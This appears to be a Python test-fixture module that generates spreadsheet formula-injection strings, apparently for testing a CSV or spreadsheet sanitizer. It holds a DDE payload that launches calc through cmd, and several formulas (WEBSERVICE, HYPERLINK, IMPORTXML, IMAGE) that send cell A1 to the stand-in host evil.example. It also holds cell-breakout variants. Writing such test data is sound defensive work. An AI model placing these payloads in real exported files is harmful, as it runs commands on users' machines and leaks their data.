"""Texts that a spreadsheet would take for formulas, or for the end of their cell.

Families: what a formula begins with, in every width and after blanks; calls of programs (DDE) and of the net; quotes
and separators of other countries; ends of lines.
"""

RUNS = (
    "1+1", "cmd|'/C calc'!A0", 'HYPERLINK("https://evil.example?x="&A1,"press")', 'WEBSERVICE("https://evil.example/"&A1)',
    'IMPORTXML("https://evil.example","//a")', 'IMAGE("https://evil.example/x.png")', "SUM(A1:A9)",
)  # fmt: skip
BEGINS = (
    "=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "\t=", "\r=", "\n=", "\u00a0=", "\u3000@", "\t", "\r", "=-+@", "\u2212"
)  # fmt: skip
BREAKS = (
    '";=1+1;"', '",=1+1,"', 'a";=1+1', "a;=1+1", "a\t=1+1", "a\n=1+1", "a\r\n=1+1", 'a"\n=1+1', '"=1+1"', '"",""=1+1', "a,=1+1", "%0A=1+1", "|=1+1"
)  # fmt: skip

CELLS = (*(begin + run for begin in BEGINS for run in RUNS), *BREAKS)
